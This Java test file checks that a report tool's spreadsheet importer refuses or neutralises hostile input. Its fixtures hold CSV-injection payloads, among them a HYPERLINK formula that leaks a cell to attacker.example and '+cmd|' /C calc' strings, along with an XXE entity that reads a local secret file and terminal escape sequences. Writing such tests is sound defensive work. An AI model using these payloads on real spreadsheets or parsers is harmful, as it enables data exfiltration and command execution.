package org.rapporteur.adversarial;

import static org.assertj.core.api.Assertions.assertThat;
import static org.rapporteur.adversarial.Attempt.assertNoFault;
import static org.rapporteur.adversarial.Attempt.assertUnchanged;
import static org.rapporteur.adversarial.Attempt.snapshot;

import java.io.IOException;
import java.io.OutputStream;
import java.io.UncheckedIOException;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.SocketTimeoutException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.function.BiFunction;
import java.util.stream.Stream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import java.util.zip.ZipOutputStream;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.rapporteur.ReportFolder.Run;
import org.rapporteur.load.ReportLoader;
import org.rapporteur.model.InspectedCase;
import org.rapporteur.model.Report;
import org.rapporteur.source.Diagnostics;

/**
 * Spreadsheets from careless authors and from attackers, through {@code rapporteur import-cases}: formulas and
 * CSV-injection strings are data, never evaluated; control characters and newlines in cells and sheet names never
 * reach the terminal raw; files that are not what their names say, and sheets too large for a report, are refused
 * at their sheet, row and column; and a failed import writes nothing.
 */
@Timeout(180)
class SpreadsheetsTest {

    /** The key questions court cases answer in the 2021 framework. */
    static final List<String> COURT = List.of("2.1.1", "2.1.2", "2.1.3", "2.2.1", "2.2.2", "2.2.3", "2.3.1", "2.3.2",
            "2.3.3", "2.4.1", "2.4.2", "2.4.3");

    @TempDir
    Path tmp;

    Path report;

    @BeforeEach
    void reportWithoutCases() throws IOException {
        report = Attempt.minimalReport(tmp.resolve("report")).dir();
        Files.delete(report.resolve("cases/court.yaml"));
    }

    // ------------------------------------------------------------------------------------------------ refused

    /** A spreadsheet that must be refused: where the message is located, and what it says. */
    record Refusal(String name, BiFunction<Path, String, Path> file, String where, String message,
                   List<String> options) {
        Refusal(String name, BiFunction<Path, String, Path> file, String where, String message) {
            this(name, file, where, message, List.of());
        }

        @Override
        public String toString() {
            return name;
        }
    }

    static Stream<Refusal> refusals() {
        return Stream.of(
                new Refusal("an escape sequence in an answer cell is shown escaped, at its cell",
                        (dir, n) -> csv(dir, n + ".csv", header() + "\nC1,court,," + answers("yes\u001b[2J\u001b]0;owned\u0007")),
                        ": row 2, column D (2.1.1)", "'yes\\x1b[2J\\x1b]0;owned\\x07' is not an answer"),
                new Refusal("a newline in an answer cell keeps the message on one line",
                        (dir, n) -> csv(dir, n + ".csv", header() + "\nC1,court,," + answers("\"ye\ns\"")),
                        ": row 2, column D (2.1.1)", "'ye s' is not an answer"),
                new Refusal("a bidirectional override in an answer cell is shown escaped",
                        (dir, n) -> csv(dir, n + ".csv", header() + "\nC1,court,," + answers("\u202eon")),
                        ": row 2, column D (2.1.1)", "'\\u202eon' is not an answer"),
                new Refusal("a control character in a disposal is refused at its cell",
                        (dir, n) -> csv(dir, n + ".csv", header() + "\nC1,court,Referral\u009b2J order," + answers("yes")),
                        ": row 2, column C (disposal)", "the disposal holds the control character U+009B"),
                new Refusal("a huge case id is refused at its cell",
                        (dir, n) -> csv(dir, n + ".csv", header() + "\n" + "C".repeat(5000) + ",court,," + answers("yes")),
                        ": row 2, column A (id)", "the case id is 5000 characters long; at most 100"),
                new Refusal("a huge disposal (a whole Excel cell) is refused at its cell",
                        (dir, n) -> workbook(dir.resolve(n + ".xlsx"), "Court", List.of(headerCells(),
                                row("C1", "x".repeat(32_767), "yes"))),
                        ": sheet 'Court', row 2, column C (disposal)", "the disposal is 32767 characters long"),
                new Refusal("thousands of columns are refused at the first one too many",
                        (dir, n) -> csv(dir, n + ".csv", header() + ",#note".repeat(3000) + "\n"),
                        ": row 1, column BXY", "the file has more than 2,000 columns"),
                new Refusal("a duplicate header is refused at the second column",
                        (dir, n) -> csv(dir, n + ".csv", header() + ",2.1.1\nC1,court,," + answers("yes") + ",no"),
                        ": row 1, column P (2.1.1)", "column D already has this header"),
                new Refusal("a CSV named .xlsx is told apart by its bytes",
                        (dir, n) -> csv(dir, n + ".xlsx", header() + "\nC1,court,," + answers("yes")),
                        ".xlsx", "this is not an Excel workbook: the file holds plain text"),
                new Refusal("a zip of something else named .xlsx is refused, not opened as a workbook",
                        (dir, n) -> zip(dir.resolve(n + ".xlsx"), Map.of("notes.txt", "not a workbook")),
                        ".xlsx", "cannot read the workbook: it is damaged or not an Excel .xlsx file"),
                new Refusal("a password-protected workbook (an OLE2 container) is refused",
                        (dir, n) -> bytes(dir.resolve(n + ".xlsx"), ole2()),
                        ".xlsx", "this is an old-style .xls workbook or a password-protected one"),
                new Refusal("an old .xls workbook is refused",
                        (dir, n) -> bytes(dir.resolve(n + ".xls"), ole2()),
                        ".xls", "this is an old-style .xls workbook or a password-protected one"),
                new Refusal("a sheet name with control characters is shown escaped (XML made its newline a space)",
                        (dir, n) -> workbook(dir.resolve(n + ".xlsx"), "Court\u009b2J\u202e\nx", List.of(headerCells(),
                                row("C1", "", "maybe"))),
                        ": sheet 'Court\\x9b2J\\u202e x', row 2, column D (2.1.1)", "'maybe' is not an answer"),
                new Refusal("a formula cell gives its last calculated value, never evaluated",
                        (dir, n) -> workbook(dir.resolve(n + ".xlsx"), "Court", List.of(headerCells(),
                                row("C1", "", new Formula("IF(TRUE,\"yes\",\"no\")", "perhaps")))),
                        ": sheet 'Court', row 2, column D (2.1.1)", "'perhaps' is not an answer"),
                new Refusal("a WEBSERVICE formula is an Excel error, and nothing is fetched",
                        (dir, n) -> workbook(dir.resolve(n + ".xlsx"), "Court", List.of(headerCells(),
                                row("C1", "", new Formula("WEBSERVICE(\"http://127.0.0.1:9/x\")", null)))),
                        ": sheet 'Court', row 2, column D (2.1.1)", "is an Excel error, not an answer"),
                new Refusal("a CSV that is not text (NUL bytes) is refused",
                        (dir, n) -> bytes(dir.resolve(n + ".csv"), "id,type\u0000\u0000\u0001\nC1,court\n"
                                .getBytes(StandardCharsets.ISO_8859_1)),
                        ".csv", "this is not a text file, so it cannot be read as CSV"));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("refusals")
    void refusedAtItsPlaceAndNothingWritten(Refusal c) {
        Path file = c.file().apply(tmp, "cases");
        Attempt.Snapshot before = snapshot(report);
        List<String> args = new ArrayList<>(List.of("import-cases", file.toString(), report.toString()));
        args.addAll(c.options());
        Run run = Attempt.run(args.toArray(String[]::new));

        assertThat(run.status()).as("exit status\n" + run.err()).isEqualTo(2);
        assertNoFault(run);
        assertPrintable(run);
        assertThat(run.err().lines().toList()).as("a line naming " + c.where() + " and saying " + c.message()
                + "\n" + run.err()).anyMatch(l -> l.startsWith(file.toString()) && l.contains(c.where() + ": ")
                && l.contains(c.message()));
        assertThat(run.err()).contains("nothing was written");
        assertUnchanged(before, report);
    }

    // ------------------------------------------------------------------------------------------------ imported

    /** A spreadsheet whose strange cells are imported as plain data: the case, and what its fields must be. */
    record Imported(String name, BiFunction<Path, String, Path> file, String id, String disposal,
                    String firstAnswer) {
        @Override
        public String toString() {
            return name;
        }
    }

    static Stream<Imported> imports() {
        String hyperlink = "=HYPERLINK(\"http://attacker.example/?leak=\"&A1,\"Referral order\")";
        return Stream.of(
                new Imported("a CSV-injection formula in a disposal is text",
                        (dir, n) -> csv(dir, n + ".csv", header() + "\nC1,court,\"" + hyperlink.replace("\"", "\"\"")
                                + "\"," + answers("yes")),
                        "C1", hyperlink, "YES"),
                new Imported("+cmd, @SUM and -1+1 in ids and disposals are text",
                        (dir, n) -> csv(dir, n + ".csv", header() + "\n\"+cmd|' /C calc'!A0\",court,@SUM(1+1),"
                                + answers("no")),
                        "+cmd|' /C calc'!A0", "@SUM(1+1)", "NO"),
                new Imported("a formula cell in a workbook gives its cached text, not a result of evaluating it",
                        (dir, n) -> workbook(dir.resolve(n + ".xlsx"), "Court", List.of(headerCells(),
                                row(new Formula("\"C\"&\"9\"", "C1"), new Formula("HYPERLINK(\"http://x.example\","
                                        + "\"Referral order\")", "=cmd|calc"), new Formula("1=1", "no")))),
                        "C1", "=cmd|calc", "NO"),
                new Imported("a newline in a disposal becomes a space",
                        (dir, n) -> csv(dir, n + ".csv", header() + "\nC1,court,\"Referral\r\norder\"," + answers("yes")),
                        "C1", "Referral order", "YES"),
                new Imported("a UTF-8 CSV with a byte order mark",
                        (dir, n) -> bytes(dir.resolve(n + ".csv"), concat(new byte[] {(byte) 0xEF, (byte) 0xBB,
                            (byte) 0xBF}, (header() + "\nC1,court,Ordonnance à Cœur," + answers("yes"))
                                .getBytes(StandardCharsets.UTF_8))),
                        "C1", "Ordonnance à Cœur", "YES"),
                new Imported("a UTF-16 CSV with a byte order mark (Excel's 'Unicode text')",
                        (dir, n) -> bytes(dir.resolve(n + ".csv"), concat(new byte[] {(byte) 0xFF, (byte) 0xFE},
                                (header() + "\nC1,court,Gorchymyn ŵyr," + answers("yes"))
                                        .getBytes(StandardCharsets.UTF_16LE))),
                        "C1", "Gorchymyn ŵyr", "YES"),
                new Imported("a UTF-16 CSV without a byte order mark",
                        (dir, n) -> bytes(dir.resolve(n + ".csv"), (header() + "\nC1,court,Referral order,"
                                + answers("yes")).getBytes(StandardCharsets.UTF_16BE)),
                        "C1", "Referral order", "YES"));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("imports")
    void importedAsData(Imported c) {
        Path file = c.file().apply(tmp, "cases");
        Run run = Attempt.run("import-cases", file.toString(), report.toString());

        assertThat(run.status()).as("exit status\n" + run.err()).isZero();
        assertNoFault(run);
        assertPrintable(run);
        assertThat(run.out()).contains("imported 1 case from");
        InspectedCase imported = cases().stream().filter(k -> k.id().equals(c.id())).findFirst()
                .orElseThrow(() -> new AssertionError("no case " + c.id() + " in " + cases()));
        assertThat(imported.disposal()).isEqualTo(c.disposal());
        assertThat(imported.answer("2.1.1").orElseThrow().answer().name()).isEqualTo(c.firstAnswer());
    }

    // ------------------------------------------------------------------------------------------------ limits

    @Test
    void exactly10000CasesAreImported() throws IOException {
        Path file = csv(tmp, "many.csv", header() + "\n" + rows(10_000, ""));
        Run run = Attempt.run("import-cases", file.toString(), report.toString());
        assertThat(run.status()).as(run.err()).isZero();
        assertNoFault(run);
        assertThat(run.out()).contains("imported 10000 cases");
        assertThat(cases()).hasSize(10_000);
    }

    @Test
    void anImportThatWouldPassTheReportsCaseBudgetWritesNothing() throws IOException {
        long each = (org.rapporteur.load.TotalSize.MAX_CASE_BYTES - 1_000) / 4;
        for (int i = 1; i <= 4; i++) {
            StringBuilder pad = new StringBuilder("cases: []\n");
            while (pad.length() < each) {
                pad.append("# ").append("x".repeat(76)).append('\n');
            }
            Files.writeString(report.resolve("cases/earlier-" + i + ".yaml"), pad);
        }
        Path file = csv(tmp, "more.csv", header() + "\n" + rows(100, ""));
        Attempt.Snapshot before = snapshot(report);
        Run run = Attempt.run("import-cases", file.toString(), report.toString());
        assertThat(run.status()).as(run.err()).isEqualTo(2);
        assertNoFault(run);
        assertThat(run.err()).contains("would hold").contains("a report may hold at most 12.0 MB");
        assertUnchanged(before, report);
    }

    @Test
    void case10001IsRefusedAtItsRow() throws IOException {
        Path file = csv(tmp, "many.csv", header() + "\n" + rows(10_001, ""));
        Attempt.Snapshot before = snapshot(report);
        Run run = Attempt.run("import-cases", file.toString(), report.toString());
        assertThat(run.status()).isEqualTo(2);
        assertNoFault(run);
        assertThat(run.err()).contains(file + ": row 10002: the file has more than 10,000 rows of cases");
        assertUnchanged(before, report);
    }

    @Test
    void aWorkbookOf10001CasesOverTwoSheetsIsRefusedAtTheRow() {
        List<List<Object>> first = new ArrayList<>(List.of(headerCells()));
        for (int i = 1; i <= 6_000; i++) {
            first.add(row("A" + i, "", "yes"));
        }
        List<List<Object>> second = new ArrayList<>(List.of(headerCells()));
        for (int i = 1; i <= 4_001; i++) {
            second.add(row("B" + i, "", "yes"));
        }
        Path file = tmp.resolve("many.xlsx");
        try (XSSFWorkbook wb = new XSSFWorkbook()) {
            fill(wb.createSheet("One"), first);
            fill(wb.createSheet("Two"), second);
            try (OutputStream out = Files.newOutputStream(file)) {
                wb.write(out);
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        Attempt.Snapshot before = snapshot(report);
        Run run = Attempt.run("import-cases", file.toString(), report.toString());
        assertThat(run.status()).isEqualTo(2);
        assertNoFault(run);
        assertThat(run.err()).contains(file + ": sheet 'Two', row 4002: the workbook has more than 10,000 rows"
                + " of cases");
        assertUnchanged(before, report);
    }

    @Test
    void aCaseFileTheLoaderWouldRefuseIsNeverWritten() throws IOException {
        // 10,000 cases with long disposals: more than the 4 MB a report's file may hold
        Path file = csv(tmp, "large.csv", header() + "\n" + rows(10_000, "d".repeat(190)));
        Attempt.Snapshot before = snapshot(report);
        Run run = Attempt.run("import-cases", file.toString(), report.toString());
        assertThat(run.status()).isEqualTo(2);
        assertNoFault(run);
        assertThat(run.err()).containsPattern("large\\.csv: the 10000 court cases would make \\S*court\\.yaml"
                + " \\d+\\.\\d MB, but a report's files may be at most 4 MB each; import the court cases in parts");
        assertUnchanged(before, report);
        assertThat(report.resolve("cases")).isEmptyDirectory();
    }

    // ------------------------------------------------------------------------------------------------ outside

    @Test
    void externalLinksAndEntitiesAreNeverFetched() throws IOException {
        try (ServerSocket listener = new ServerSocket(0, 5, InetAddress.getLoopbackAddress())) {
            String url = "http://127.0.0.1:" + listener.getLocalPort() + "/";
            Path secret = Files.writeString(tmp.resolve("secret.txt"), "TOP-SECRET-VALUE");
            Path plain = workbook(tmp.resolve("plain.xlsx"), "Court", List.of(headerCells(), row("C1", "", "yes")));
            Path hostile = tmp.resolve("hostile.xlsx");
            rewrite(plain, hostile, (name, xml) -> switch (name) {
                case "xl/sharedStrings.xml" -> xml.replaceFirst("<sst", "<!DOCTYPE sst [<!ENTITY secret SYSTEM \""
                        + secret.toUri() + "\"><!ENTITY remote SYSTEM \"" + url + "dtd\">]><sst")
                        .replace(">C1<", ">&secret;&remote;<");
                case "xl/_rels/workbook.xml.rels" -> xml.replace("</Relationships>", "<Relationship Id=\"rIdX\""
                        + " Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLink\""
                        + " Target=\"" + url + "book.xlsx\" TargetMode=\"External\"/></Relationships>");
                default -> xml;
            });
            Attempt.Snapshot before = snapshot(report);
            Run run = Attempt.run("import-cases", hostile.toString(), report.toString());
            assertNoFault(run);
            assertThat(run.out() + run.err()).doesNotContain("TOP-SECRET-VALUE");
            assertThat(run.status()).isEqualTo(2);
            assertThat(run.err()).contains(hostile + ": cannot read the workbook");
            assertUnchanged(before, report);
            listener.setSoTimeout(200);
            try {
                listener.accept().close();
                throw new AssertionError("the import connected to " + url);
            } catch (SocketTimeoutException expected) {
                // nothing was fetched
            }
        }
    }

    // ------------------------------------------------------------------------------------------------ helpers

    /** No control characters on either stream except the line ends. */
    static void assertPrintable(Run run) {
        for (String stream : List.of(run.out(), run.err())) {
            assertThat(stream.replace("\n", "").chars().filter(ch -> ch < 0x20 || (ch >= 0x7F && ch <= 0x9F)
                    || ch == 0x202E).count()).as("control characters in\n" + stream).isZero();
        }
    }

    private List<InspectedCase> cases() {
        Diagnostics d = new Diagnostics();
        Optional<Report> loaded = ReportLoader.load(report, d);
        assertThat(d.hasErrors()).as(d.all().toString()).isFalse();
        return loaded.orElseThrow().cases();
    }

    static String header() {
        return "id,type,disposal," + String.join(",", COURT);
    }

    /** The answers to the 12 court key questions: the first as given, the others yes. */
    static String answers(String first) {
        return first + ",yes".repeat(COURT.size() - 1);
    }

    static String rows(int n, String disposal) {
        StringBuilder b = new StringBuilder(n * 64);
        for (int i = 1; i <= n; i++) {
            b.append("C").append(i).append(",court,").append(disposal).append(',').append(answers("yes"))
                    .append('\n');
        }
        return b.toString();
    }

    static List<Object> headerCells() {
        List<Object> cells = new ArrayList<>(List.of("id", "type", "disposal"));
        cells.addAll(COURT);
        return cells;
    }

    /** A court case row: id, disposal, the first answer, then yes. */
    static List<Object> row(Object id, Object disposal, Object first) {
        List<Object> cells = new ArrayList<>(Arrays.asList(id, "court", disposal, first));
        for (int i = 1; i < COURT.size(); i++) {
            cells.add("yes");
        }
        return cells;
    }

    /** A formula cell with the value Excel last calculated (null: an Excel error, #N/A). */
    record Formula(String formula, String cached) {
    }

    static Path workbook(Path file, String sheet, List<List<Object>> rows) {
        try (XSSFWorkbook wb = new XSSFWorkbook()) {
            fill(wb.createSheet(sheet), rows);
            try (OutputStream out = Files.newOutputStream(file)) {
                wb.write(out);
            }
            return file;
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    static void fill(Sheet sheet, List<List<Object>> rows) {
        for (int r = 0; r < rows.size(); r++) {
            Row row = sheet.createRow(r);
            for (int c = 0; c < rows.get(r).size(); c++) {
                Object v = rows.get(r).get(c);
                Cell cell = row.createCell(c);
                if (v instanceof Formula f) {
                    cell.setCellFormula(f.formula());
                    if (f.cached() == null) {
                        cell.setCellErrorValue(org.apache.poi.ss.usermodel.FormulaError.NA.getCode());
                    } else {
                        cell.setCellValue(f.cached());
                    }
                } else if (v instanceof Boolean b) {
                    cell.setCellValue(b);
                } else if (v != null && !v.toString().isEmpty()) {
                    cell.setCellValue(v.toString());
                }
            }
        }
    }

    static Path csv(Path dir, String name, String text) {
        return bytes(dir.resolve(name), text.getBytes(StandardCharsets.UTF_8));
    }

    static Path bytes(Path file, byte[] content) {
        try {
            return Files.write(file, content);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    static byte[] concat(byte[] a, byte[] b) {
        byte[] all = Arrays.copyOf(a, a.length + b.length);
        System.arraycopy(b, 0, all, a.length, b.length);
        return all;
    }

    /** The start of an OLE2 compound file, as old .xls and password-protected .xlsx files are. */
    static byte[] ole2() {
        byte[] b = new byte[4096];
        byte[] magic = {(byte) 0xD0, (byte) 0xCF, 0x11, (byte) 0xE0, (byte) 0xA1, (byte) 0xB1, 0x1A, (byte) 0xE1};
        System.arraycopy(magic, 0, b, 0, magic.length);
        return b;
    }

    static Path zip(Path file, Map<String, String> entries) {
        try (ZipOutputStream out = new ZipOutputStream(Files.newOutputStream(file))) {
            for (Map.Entry<String, String> e : entries.entrySet()) {
                out.putNextEntry(new ZipEntry(e.getKey()));
                out.write(e.getValue().getBytes(StandardCharsets.UTF_8));
                out.closeEntry();
            }
            return file;
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** A copy of a workbook with some of its XML parts changed. */
    static void rewrite(Path from, Path to, BiFunction<String, String, String> change) throws IOException {
        try (ZipInputStream in = new ZipInputStream(Files.newInputStream(from));
             ZipOutputStream out = new ZipOutputStream(Files.newOutputStream(to))) {
            for (ZipEntry e = in.getNextEntry(); e != null; e = in.getNextEntry()) {
                String text = new String(in.readAllBytes(), StandardCharsets.UTF_8);
                out.putNextEntry(new ZipEntry(e.getName()));
                out.write(change.apply(e.getName(), text).getBytes(StandardCharsets.UTF_8));
                out.closeEntry();
            }
        }
    }
}
